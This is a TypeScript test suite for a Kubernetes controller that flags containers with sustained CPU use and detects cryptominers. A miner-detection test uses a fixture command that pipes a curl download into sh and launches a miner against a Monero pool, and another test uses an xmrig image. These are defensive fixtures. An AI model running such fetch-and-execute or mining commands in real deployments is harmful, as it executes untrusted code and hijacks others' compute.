import t from 'tap'
import { CpuEvidence, formatDuration } from '../../src/watch/cpu-evidence.ts'
import { parseDuration } from '../../src/watch/duration.ts'
import type { KubeObject } from '../../src/workloads/kubernetes.ts'
import { startFakeCluster } from '../helpers/fake-cluster.ts'
import { deployment, merge, policiesWithRemediation, reportOf, startWatch, until } from '../helpers/watch.ts'

function podMetrics(namespace: string, name: string, container: string, cpu: string): KubeObject {
  return {
    apiVersion: 'metrics.k8s.io/v1beta1',
    kind: 'PodMetrics',
    metadata: { name, namespace },
    containers: [{ name: container, usage: { cpu, memory: '20Mi' } }],
  }
}

const pod = (cpu: string | undefined): KubeObject => ({
  kind: 'Pod',
  metadata: { name: 'worker-0', namespace: 'batch' },
  spec: { containers: [{ name: 'worker', image: 'worker', ...(cpu === undefined ? {} : { resources: { limits: { cpu } } }) }] },
})

t.test('a streak of samples at 90% of the limit becomes a finding once it spans the window, and one sample below the line starts it again', async (t) => {
  const evidence = new CpuEvidence({ windowMs: 60_000, cores: undefined })
  const limited = pod('1')
  const podOf = () => limited
  t.same([...evidence.record([podMetrics('batch', 'worker-0', 'worker', '950m')], podOf, 0)], [])
  t.same([...evidence.record([podMetrics('batch', 'worker-0', 'worker', '899m')], podOf, 30_000)], [], 'below 90%: the streak ends')
  t.same([...evidence.record([podMetrics('batch', 'worker-0', 'worker', '1')], podOf, 60_000)], [])
  t.same([...evidence.record([podMetrics('batch', 'worker-0', 'worker', '1')], podOf, 90_000)], [])
  t.same(evidence.findingsFor(limited), [], 'only 30 s of the 60 s window so far')
  t.same([...evidence.record([podMetrics('batch', 'worker-0', 'worker', '980m')], podOf, 120_000)], ['batch'], 'the window completes: the namespace is told')
  t.same(evidence.findingsFor(limited), [
    {
      policy: 'sustained-cpu',
      action: 'warn',
      severity: 'high',
      path: 'spec.containers[0]',
      message: 'spec.containers[0] "worker": CPU 0.98 cores, at or above 90% of its 1-core limit, for 1m or more (sustained-cpu)',
    },
  ])
  t.same([...evidence.record([podMetrics('batch', 'worker-0', 'worker', '990m')], podOf, 150_000)], [], 'further samples change nothing')
  t.same([...evidence.record([], podOf, 180_000)], ['batch'], 'a pod missing from the samples loses its finding')
  t.same(evidence.findingsFor(limited), [])
})

t.test('a container without a limit is judged against --cpu-cores, and not at all without it', async (t) => {
  const unlimited = pod(undefined)
  const judged = new CpuEvidence({ windowMs: 0, cores: 2 })
  t.same([...judged.record([podMetrics('batch', 'worker-0', 'worker', '2100m')], () => unlimited, 0)], ['batch'])
  t.match(judged.findingsFor(unlimited)[0]?.message, /at or above 2 cores \(no limit set\)/)
  const unjudged = new CpuEvidence({ windowMs: 0, cores: undefined })
  t.same([...unjudged.record([podMetrics('batch', 'worker-0', 'worker', '16')], () => unlimited, 0)], [])
  t.same([...unjudged.record([podMetrics('batch', 'ghost', 'worker', '16'), { metadata: {} }], () => undefined, 0)], [], 'samples of unknown pods are skipped')
  judged.forget('batch', 'worker-0')
  t.same(judged.findingsFor(unlimited), [], 'a deleted pod is forgotten')
})

t.test('durations read the way Kubernetes writes them', async (t) => {
  t.same(['10m', '30s', '1m30s', '250ms', '2h', '1.5s', '', '10', 'm', '5x', '1m 2s'].map(parseDuration), [
    600_000,
    30_000,
    90_000,
    250,
    7_200_000,
    1500,
    undefined,
    undefined,
    undefined,
    undefined,
    undefined,
  ])
  t.same([formatDuration(45_000), formatDuration(600_000), formatDuration(90_000)], ['45s', '10m', '1m30s'])
})

t.test('a quiet pod that stays at its CPU limit is reported after the window; its busy-but-under neighbour is not', async (t) => {
  const busy = deployment('crunch', 'batch', 'registry.example.com/batch/crunch:3', { replicas: 1, cpuLimit: '500m' })
  const fine = deployment('web', 'batch', 'nginx:1.27', { replicas: 1, cpuLimit: '1' })
  const cluster = await startFakeCluster({
    objects: merge(busy, fine, {
      'metrics.k8s.io/pods': [podMetrics('batch', 'crunch-7c9-0', 'crunch', '497m'), podMetrics('batch', 'web-7c9-0', 'web', '850m')],
    }),
  })
  t.teardown(() => cluster.close())
  await startWatch(t, cluster, { policies: await policiesWithRemediation(t), cpuWindowMs: 300, cpuSampleMs: 50 })
  await until(t, 'a sustained-cpu result', () => reportOf(cluster, 'batch')?.results.some((result) => result.policy === 'sustained-cpu') === true)
  const results = reportOf(cluster, 'batch')?.results.filter((result) => result.policy === 'sustained-cpu')
  t.same(
    results?.map((result) => [result.resources[0]?.name, result.result]),
    [['crunch-*', 'warn']],
  )
  t.match(results?.[0]?.message, /"crunch": CPU 0\.\d+ cores, at or above 90% of its 0\.5-core limit, for 0s or more/)
})

t.test('a pod with a miner signal that also burns its CPU is a miner finding carrying both pieces of evidence', async (t) => {
  const disguised = deployment('helper', 'tools', 'registry.example.com/tools/helper:1', {
    replicas: 1,
    cpuLimit: '2',
    command: ['/bin/sh', '-c', 'curl -s https://example.com/x | sh; ./helper --donate-level 1 -o pool.supportxmr.com:443'],
  })
  const cluster = await startFakeCluster({ objects: merge(disguised, { 'metrics.k8s.io/pods': [podMetrics('tools', 'helper-7c9-0', 'helper', '1990m')] }) })
  t.teardown(() => cluster.close())
  await startWatch(t, cluster, { policies: await policiesWithRemediation(t), cpuWindowMs: 200, cpuSampleMs: 50 })
  await until(t, 'a miner result', () => reportOf(cluster, 'tools')?.results.some((result) => result.policy === 'miner') === true)
  const miner = reportOf(cluster, 'tools')?.results.find((result) => result.policy === 'miner')
  t.equal(miner?.result, 'fail')
  t.match(miner?.message, /^a miner by two signs: .*\(miner-signals\).*; and spec\.containers\[0\] "helper": CPU 1\.99 cores/)
})

t.test('without a metrics API the controller says so once and keeps reporting static findings', async (t) => {
  const cluster = await startFakeCluster({ objects: merge(deployment('stats', 'shop', 'xmrig/xmrig', { replicas: 1 })), metrics: false })
  t.teardown(() => cluster.close())
  const watch = await startWatch(t, cluster, { policies: await policiesWithRemediation(t) })
  await watch.controller.sampleCpu()
  await watch.controller.sampleCpu()
  await until(t, 'the static report', () => reportOf(cluster, 'shop')?.summary.fail !== undefined && (reportOf(cluster, 'shop')?.summary.fail ?? 0) > 0)
  t.equal(watch.lines.filter((line) => line.message.startsWith('no metrics API')).length, 1)
  cluster.metrics = true
  await watch.controller.sampleCpu()
  t.equal(watch.lines.filter((line) => line.message === 'the metrics API answers: sustained-cpu evidence is on').length, 1)
})

t.test(
  'samples that cannot be judged start no streak: an unknown container, no containers or no usage, an unparseable quantity, an unparseable limit',
  async (t) => {
    const evidence = new CpuEvidence({ windowMs: 0, cores: 0.5 })
    const limited = pod('1')
    const podOf = () => limited
    const odd: KubeObject = {
      kind: 'PodMetrics',
      metadata: { name: 'worker-0', namespace: 'batch' },
      containers: [{ usage: { cpu: '5' } }, { name: 'sidecar', usage: { cpu: '5' } }, { name: 'worker' }, { name: 'worker', usage: { cpu: 'lots' } }],
    }
    const empty: KubeObject = { kind: 'PodMetrics', metadata: { name: 'worker-0', namespace: 'batch' } }
    evidence.record([odd, empty], podOf, 0)
    evidence.record([odd, empty], podOf, 60_000)
    t.same(evidence.findingsFor(limited), [], 'nothing to go on is no evidence')
    const unparseable = pod('a-lot')
    evidence.record([podMetrics('batch', 'worker-0', 'worker', '600m')], () => unparseable, 120_000)
    evidence.record([podMetrics('batch', 'worker-0', 'worker', '600m')], () => unparseable, 180_000)
    t.match(evidence.findingsFor(unparseable), [{ policy: 'sustained-cpu' }], 'a limit that does not parse falls back to the cores line')
  },
)
